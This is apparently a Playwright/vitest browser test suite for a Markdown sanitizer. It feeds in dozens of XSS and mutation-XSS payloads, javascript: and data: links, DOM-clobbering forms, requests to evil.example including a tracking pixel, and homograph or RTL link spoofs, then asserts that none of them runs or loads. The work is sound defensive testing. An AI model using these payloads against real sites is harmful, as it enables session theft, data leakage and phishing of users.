/** Markdown in a real browser, without the policy of the page: what keeps script out here is the sanitizer alone. */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { build } from 'vite';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { closePages, HAS_BROWSER, sharedBrowser } from '../browser.fake.ts';

const PAGE = '<!doctype html><meta charset="utf-8"><body></body><script src="/entry.js"></script>';

async function buildEntry(): Promise<string> {
  const built = await build({
    configFile: false,
    logLevel: 'silent',
    oxc: { jsx: { runtime: 'automatic', importSource: 'preact' } },
    build: {
      write: false,
      rolldownOptions: {
        input: join(import.meta.dirname, 'markdown.fake.tsx'),
        output: { format: 'iife', codeSplitting: false },
      },
    },
  });
  const [{ output: [chunk] = [] } = {}] = [built].flat() as { output: { code: string }[] }[];
  return chunk?.code ?? '';
}

describe.skipIf(!HAS_BROWSER)('markdown', () => {
  let browser: Browser;
  let server: Server;
  let page: Page;
  /** Every dialog, and everything asked for beyond the page itself. */
  const happened: string[] = [];

  beforeAll(async () => {
    const entry = await buildEntry();
    server = createServer(({ url }, response) => {
      response.setHeader('Content-Type', url === '/' ? 'text/html' : 'text/javascript');
      response.end(url === '/' ? PAGE : entry);
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    browser = await sharedBrowser();
    page = await browser.newPage();
    page.on('dialog', (dialog) => {
      happened.push(`a dialog: ${dialog.message()}`);
      void dialog.dismiss();
    });
    await page.goto(`http://127.0.0.1:${(server.address() as AddressInfo).port}/`);
    page.on('request', (request) => happened.push(`asked for ${request.url()}`));
  });
  afterAll(async () => {
    await closePages();
    await new Promise((resolve) => server.close(resolve));
  });
  beforeEach(() => {
    happened.length = 0;
  });

  async function show(text: string, lines = false): Promise<string> {
    await page.evaluate(`show(${JSON.stringify(text)}, ${lines})`);
    const shown = page.locator('.markdown:not(.markdown-plain)');
    await shown.waitFor({ state: 'attached' });
    return shown.innerHTML();
  }

  test.each([
    '<script>alert(1)</script>',
    '<ScRiPt src=//evil.example/x.js></sCrIpT>',
    '<img src=x onerror=alert(1)>',
    '<img/src="x"/onerror=alert(1)//',
    'a <b onmouseover=alert(1)>b</b> c',
    '<svg onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x">',
    '<math><mtext><table><mglyph><style><!--</style><img src=x onerror=alert(1)>',
    '<math href="javascript:alert(1)">click</math>',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<template><template><img src=x onerror=alert(1)></template></template>',
    '<div><template shadowrootmode=open><script>alert(1)</script></template></div>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src=javascript:alert(1)>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<style>@import "//evil.example/x.css";</style>',
    '<link rel=stylesheet href=//evil.example/x.css><base href=//evil.example/>',
    '<meta http-equiv=refresh content="0;url=//evil.example/">',
    '<p style="background:url(//evil.example/x.png)" class="dialog" id="page">x</p>',
    '<form id=document name=cookie><input name=attributes><input name=nodeName></form>',
    '<a id=show><a id=show name=toString href=x>',
    '<form><input name=parentNode><input name=innerHTML></form>',
    '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
    '<details open ontoggle=alert(1)>x</details>',
    '<input autofocus onfocus=alert(1)>',
    '<body onload=alert(1)><marquee onstart=alert(1)>',
    '<x contenteditable onblur=alert(1)>lose</x>',
    '<![CDATA[<script>alert(1)</script>]]> <?xml version="1.0"?> <!doctype html>',
    '<!-- --!><img src=x onerror=alert(1)> -->',
    '[a](javascript:alert(1))',
    '[a](JaVaScRiPt:alert(1))',
    '[a](&#106;avascript:alert(1))',
    '[a](javascript&colon;alert(1))',
    '[a](<java\tscript:alert(1)>)',
    '[a](\u0001javascript:alert(1))',
    '[a](vbscript:x) [b](data:text/html,<script>alert(1)</script>) [c](file:///etc/passwd)',
    '[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    '[a](blob:https://x/y) [b](intent:x) [c](tel:1) [d](sms:1)',
    '<javascript:alert(1)> <data:text/html,x>',
    '[a]: javascript:alert(1)\n\n[a]',
    '[a](x "t\\" onclick=alert(1) x=\\"")',
    '[a](x"onmouseover=alert(1)//)',
    '![a](x"onerror=alert(1)//)',
    '![a"onerror="alert(1)](http://evil.example/x.png)',
    '![a](javascript:alert(1))',
    '![a](data:image/svg+xml,<svg onload=alert(1)>)',
    '![](//evil.example/pixel.gif?who=owner)',
    '```"><img src=x onerror=alert(1)>\ncode\n```',
    '`<img src=x onerror=alert(1)>`',
    '| <img src=x onerror=alert(1)> | b |\n|-|-|\n| <script>alert(1)</script> | b |',
    '- [x] <img src=x onerror=alert(1)>',
    '# <img src=x onerror=alert(1)>',
    '&lt;img src=x onerror=alert(1)&gt;',
    '\\<img src=x onerror=alert(1)>',
    '<a href="javascript:alert(1)" target=_self>x</a>',
  ])('%s runs nothing, loads nothing and names nothing', async (text) => {
    await show(text);
    expect(await page.evaluate('risks()')).toEqual([]);
    await page.evaluate('press()');
    expect(happened).toEqual([]);
  });

  test('tags are shown as the letters they are: nothing of a message is lost', async () => {
    await show('Use <b>bold</b> & <img src=x onerror=alert(1)>\n\n<div>\nin it\n</div>');
    const shown = await page.locator('.markdown').innerText();
    expect(shown).toContain('Use <b>bold</b> & <img src=x onerror=alert(1)>');
    expect(shown).toContain('<div>\nin it\n</div>');
  });

  test.each([
    ['[a](https://a.example/?x=1&y=2)', 'https://a.example/?x=1&amp;y=2'],
    ['[a](mailto:ann@a.example)', 'mailto:ann@a.example'],
    ['[a](/runs/run_1)', '/runs/run_1'],
    ['![a chart](https://a.example/c.png "t")', 'https://a.example/c.png'],
  ])('%s is a link to elsewhere that tells nothing of this page', async (text, href) => {
    expect(await show(text)).toContain(`href="${href}"`);
    const rel = page.locator('.markdown a[target=_blank]');
    expect(await rel.getAttribute('rel')).toBe('noopener noreferrer');
  });

  test.each([
    ['[https://bank.example](https://evil.example)', 'https://bank.example (https://evil.example)'],
    ['[a](/runs/run_1)', 'a (/runs/run_1)'],
    ['[ann@a.example](mailto:ann@a.example)', 'ann@a.example'],
    ['https://a.example/Fön', 'https://a.example/Fön'],
    ['https://a.example/x, [a.example/x](https://a.example/x)', 'https://a.example/x, a.example/x'],
    [
      '[https://аррӏе.com/](https://аррӏе.com/)',
      'https://аррӏе.com/ (https://xn--80ak6aa92e.com/)',
    ],
    ['![b](https://evil.example/p.png "https://bank.example")', 'b (https://evil.example/p.png)'],
    ['a\u202E[b](https://evil.example)', 'a\\u202eb (https://evil.example)'],
  ])('%s shows where it leads', async (text, shown) => {
    expect(await show(text)).not.toContain('title=');
    expect(await page.locator('.markdown').innerText()).toBe(shown);
  });

  test('Markdown looks like what it means', async () => {
    expect(await show('**a** *b* `c`\nd')).toBe(
      '<p><strong>a</strong> <em>b</em> <code>c</code>\nd</p>\n',
    );
    expect(await show('a\nb', true)).toContain('a<br>b');
    expect(await show('- [x] done\n- [ ] not\n\n3. c')).toMatch(/☑ .*done.*☐ .*not.*start="3"/s);
    expect(await show('|a|\n|-:|\n|1|')).toContain('<td align="right">1</td>');
  });

  test.each([
    ['very long', 'a '.repeat(30_000)],
    ['nested too deep', '>'.repeat(20_000)],
  ])('what is %s stays plain text', async (_, text) => {
    await show('x');
    await page.evaluate(`show(${JSON.stringify(text)})`);
    const plain = page.locator('.markdown-plain');
    await plain.waitFor();
    expect((await plain.textContent())?.length).toBe(text.length);
  });
});
